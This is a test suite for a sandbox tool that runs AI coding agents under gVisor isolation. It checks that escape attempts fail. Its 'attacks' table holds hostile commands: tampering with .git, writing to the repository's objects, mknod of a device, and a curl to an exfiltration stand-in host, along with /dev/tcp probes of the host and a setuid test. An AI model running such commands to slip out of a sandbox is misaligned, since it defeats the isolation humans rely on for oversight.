import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from "bun:test";
import { stat, writeFile } from "node:fs/promises";
import { networkInterfaces } from "node:os";
import { dirname, join } from "node:path";
import { baseImageTag, ModelStub, runProgram, Sandbox, type Output } from "../support/harness.ts";

/*
 * The isolations beside the engine's own. What must hold in a container must hold in gVisor as well, which
 * reads the engine's orders in its own way: so the essentials of the attacks on containers are tried there again.
 */

setDefaultTimeout(180_000);

const runtimes = Object.keys(
  JSON.parse((await runProgram(["docker", "info", "--format", "{{json .Runtimes}}"])).stdout) as object,
);
const hasVm = runtimes.some((name) => /kata|krun/.test(name));
const hasNoVm = hasVm ? " (skipped: the engine has a runtime for it)" : "";
const image = await baseImageTag();
const inGvisor = ["docker", "run", "--rm", "--runtime=runsc", image];
const tried = runtimes.includes("runsc") ? await runProgram([...inGvisor, "true"]) : undefined;
const hasGvisor = tried?.code === 0;
const noGvisor = hasGvisor ? "" : ` (skipped: ${tried?.stderr.trim() ?? "the engine has no runtime runsc"})`;
/** Only root can be another user to try something. */
const isRoot = process.getuid?.() === 0;
const noRoot = isRoot ? "" : " (skipped: only root can be another user)";

const storage = (
  await runProgram([
    "docker",
    "info",
    "--format",
    '{{.Driver}} {{range .DriverStatus}}{{if eq (index . 0) "Backing Filesystem"}}{{index . 1}}{{end}}{{end}}',
  ])
).stdout.trim();

let stub: ModelStub;
let sandbox: Sandbox;

beforeAll(async () => {
  stub = await ModelStub.start();
  sandbox = await Sandbox.create({ stub });
});

afterAll(async () => {
  await sandbox[Symbol.asyncDispose]();
  await stub.stop();
});

async function inside(branch: string, script: string): Promise<Output> {
  return await sandbox.inside(branch, ["bash", "-c", script]);
}

const connects = (address: string, port: number): string =>
  `timeout 5 bash -c ': <>/dev/tcp/${address}/${port}'`;

const isolationOf = async (branch: string): Promise<unknown> =>
  ((await sandbox.instance(branch)) as unknown as { isolation: unknown }).isolation;

describe("refused", () => {
  test.skipIf(hasVm)(`what the engine has no runtime for, and nothing is made${hasNoVm}`, async () => {
    const refused = await sandbox.hjk(["run", "machine", "-d", "--isolation", "vm"]);
    expect(refused).toMatchObject({ code: 5, stdout: "" });
    expect(refused.stderr).toContain("no runtime for the isolation vm");
    expect(refused.stderr).toContain("hint: ");
    expect((await sandbox.instances()).map((one) => one.branch)).not.toContain("machine");
    expect(await sandbox.git("branch", "--list", "machine")).toBe("");

    await sandbox.ok(["run", "plain", "-d"]);
    const before = await sandbox.inside("plain", ["cat", "/proc/sys/kernel/random/boot_id", "/etc/hostname"]);
    expect((await sandbox.hjk(["recreate", "plain", "--isolation", "vm"])).code).toBe(5);
    // The container that it had is still there.
    expect(
      await sandbox.inside("plain", ["cat", "/proc/sys/kernel/random/boot_id", "/etc/hostname"]),
    ).toEqual(before);
    expect(await isolationOf("plain")).toBe("container");
  });

  test("a runtime of the user's own beside it", async () => {
    await sandbox.ok(["config", "isolation", "gvisor"]);
    const refused = await sandbox.hjk(["run", "both", "-d", "--", "--runtime=runc"]);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain("--runtime");
    await sandbox.ok(["config", "--unset", "isolation"]);
  });

  const [driver, fileSystem] = storage.split(" ");
  const limitsDisk =
    (driver === "overlay2" && fileSystem === "xfs") || driver === "btrfs" || driver === "zfs";
  const mayLimit = limitsDisk ? " (skipped: the engine may be able to)" : "";
  test.skipIf(limitsDisk)(`a limit of the disk that the engine cannot have${mayLimit}`, async () => {
    const refused = await sandbox.hjk(["run", "full", "-d", "--disk", "10g"]);
    expect(refused).toMatchObject({ code: 5, stdout: "" });
    expect(refused.stderr).toContain("cannot limit what a container writes");
    expect((await sandbox.instances()).map((one) => one.branch)).not.toContain("full");
    // The engine's own word.
    const own = await runProgram(["docker", "run", "--rm", "--storage-opt=size=10g", image, "true"]);
    expect(own.code).not.toBe(0);
  });

  test("doctor says what there is", async () => {
    const found = JSON.parse((await sandbox.hjk(["doctor", "--json"])).stdout) as {
      findings: { what: string; detail: string }[];
    };
    const { detail } = found.findings.find(({ what }) => what === "isolation") ?? { detail: "" };
    expect(detail).toContain(runtimes.includes("runsc") ? "gvisor by runsc" : "no runtime for gvisor");
  });
});

describe.skipIf(!hasGvisor)(`gVisor${noGvisor}`, () => {
  beforeAll(async () => {
    if (!hasGvisor) return;
    const made = await sandbox.hjk([
      "run",
      "walled",
      "--isolation",
      "gvisor",
      "--agent",
      "claude",
      "-d",
      "SCRIPT:work",
    ]);
    expect(made).toMatchObject({ code: 0 });
    expect(made.stderr).toContain("Its isolation is gvisor.");
  });

  test("an agent works in it, and its commit comes home", async () => {
    await sandbox.ok(["wait", "walled", "--for", "done", "--timeout", "2m"]);
    await sandbox.ok(["ps"]);
    expect(await sandbox.git("show", "walled:hello.txt")).not.toBe("");
    expect(await isolationOf("walled")).toBe("gvisor");
    const [own, kernel] = [await inside("walled", "uname -r"), await runProgram(["uname", "-r"])];
    expect(own.stdout).not.toBe(kernel.stdout);
  });

  /** Each is first seen to succeed where nothing keeps it from it. */
  const attacks: Record<string, { script: string; control: string }> = {
    "another .git": { script: "echo x > .git", control: "touch x && echo x > x" },
    "no .git": { script: "rm -f .git", control: "touch x && rm -f x" },
    "a .git moved away": { script: "mv .git x", control: "touch x && mv x y" },
    "a .git mounted over": { script: "touch x && mount --bind x .git", control: "touch x" },
    "the repository's objects": {
      script: "d=$(head -1 /hjk/git/objects/info/alternates) && touch $d/x",
      control: "touch /hjk/git/objects/x && rm /hjk/git/objects/x",
    },
    "a device": { script: "mknod d b 7 0", control: "mkfifo d" },
    "a host that is not allowed": {
      script: "curl -sSf --max-time 10 https://exfiltrated.example.com",
      control: "curl -sSf --max-time 10 --noproxy '*' http://hjk-gateway:8080/healthz",
    },
  };
  test.each(Object.entries(attacks))("keeps from: %s", async (_, { script, control }) => {
    const fresh = "cd /workspace; rm -f x y s o d;";
    expect(await inside("walled", `${fresh} ${control}`)).toMatchObject({ code: 0 });
    expect((await inside("walled", `${fresh} ${script}`)).code).not.toBe(0);
  });

  test("keeps from: this machine, and another instance", async () => {
    using server = Bun.listen({ hostname: "0.0.0.0", port: 0, socket: { data: () => undefined } });
    const [address] = Object.values(networkInterfaces())
      .flatMap((all = []) => all)
      .filter(({ family, internal }) => family === "IPv4" && !internal);
    const reach = connects(address?.address ?? "", server.port);
    expect(await runProgram([...inGvisor, "bash", "-c", reach])).toMatchObject({ code: 0 });
    expect((await inside("walled", reach)).code).not.toBe(0);

    await sandbox.ok(["run", "other", "-d", "--isolation", "gvisor"]);
    const { container } = await sandbox.instance("other");
    const format = "{{range .NetworkSettings.Networks}}{{.IPAddress}} {{end}}";
    const found = await runProgram(["docker", "inspect", "-f", format, `${container}-gateway`]);
    const gateways = found.stdout.trim().split(" ");
    expect(gateways).toHaveLength(2);
    expect(await inside("other", connects("hjk-gateway", 8080))).toMatchObject({ code: 0 });
    for (const gateway of gateways)
      expect((await inside("walled", connects(gateway, 8080))).code).not.toBe(0);
  });

  test.skipIf(!isRoot)(
    `a setuid file, which gVisor lets it make, is in nobody else's reach${noRoot}`,
    async () => {
      const { workspace } = await sandbox.instance("walled");
      await inside("walled", "cp /bin/id s && chmod 4755 s");
      expect((await stat(join(workspace, "s"))).mode & 0o4000).toBe(0o4000);
      const other = ["setpriv", "--reuid=4711", "--regid=4711", "--clear-groups"];
      expect(await runProgram([...other, "id", "-u"])).toMatchObject({ code: 0, stdout: "4711\n" });
      expect((await runProgram([...other, join(workspace, "s")])).code).not.toBe(0);
      expect((await stat(dirname(workspace))).mode & 0o777).toBe(0o700);
      await inside("walled", "rm s");
    },
  );

  test("nobody becomes root in it", async () => {
    const refused = await sandbox.hjk(["run", "rooted", "-d", "--isolation", "gvisor", "--profile", "sudo"]);
    expect(refused).toMatchObject({ code: 2, stdout: "" });
    expect(refused.stderr).toContain("The profile sudo does not go with the isolation gvisor");
    expect((await inside("walled", "sudo -n id")).code).not.toBe(0);
  });

  test("threads, processes and servers work in it", async () => {
    await writeFile(join((await sandbox.instance("walled")).workspace, "n.mjs"), work);
    expect(await inside("walled", "node n.mjs && rm n.mjs")).toMatchObject({ code: 0, stdout: "ok\n" });
  });

  test("commits of a container that has ended come home", async () => {
    await inside("walled", "git commit -q --allow-empty -m 'Before it ended'");
    const { container } = await sandbox.instance("walled");
    await runProgram(["docker", "kill", container]);
    await sandbox.ok(["ps"]);
    expect(await sandbox.git("log", "--format=%s", "-1", "walled")).toBe("Before it ended");
  });

  test("stays with the instance, and is changed by recreate", async () => {
    await sandbox.ok(["stop", "walled"]);
    await sandbox.ok(["start", "walled"]);
    expect(await isolationOf("walled")).toBe("gvisor");
    await sandbox.ok(["recreate", "walled"]);
    expect(await isolationOf("walled")).toBe("gvisor");
    await sandbox.ok(["recreate", "walled", "--isolation", "container"]);
    expect(await isolationOf("walled")).toBe("container");
    const kernels = [await inside("walled", "uname -r"), await runProgram(["uname", "-r"])];
    expect(kernels[0]?.stdout).toBe(kernels[1]?.stdout ?? "");
  });

  test("a repository may strengthen it, and weaken it only when asked", async () => {
    const file = join(sandbox.repo, ".headjack.yaml");
    await writeFile(file, "isolation: gvisor\n");
    await sandbox.git("add", ".headjack.yaml");
    await sandbox.git("commit", "-qm", "stronger");
    await sandbox.ok(["run", "stronger", "-d"]);
    expect(await isolationOf("stronger")).toBe("gvisor");
    await writeFile(file, "isolation: container\n");
    await sandbox.git("commit", "-qam", "weaker");
    await sandbox.ok(["config", "isolation", "gvisor"]);
    const refused = await sandbox.hjk(["run", "weaker", "-d"]);
    expect(refused.code).toBe(2);
    expect(refused.stderr).toContain("the isolation container: a weaker wall");
    await sandbox.ok(["setup", "--approve"]);
    await sandbox.ok(["run", "weaker", "-d"]);
    expect(await isolationOf("weaker")).toBe("container");
    await sandbox.ok(["config", "--unset", "isolation"]);
  });
});

const work = `
import { Worker } from "node:worker_threads";
import { execFileSync } from "node:child_process";
import { createServer } from "node:http";
import { once } from "node:events";
await once(new Worker("1", { eval: true }), "exit");
execFileSync("true");
const server = createServer((_, answer) => answer.end("ok")).listen(0);
await once(server, "listening");
console.log(await (await fetch("http://127.0.0.1:" + server.address().port)).text());
server.close();
`;
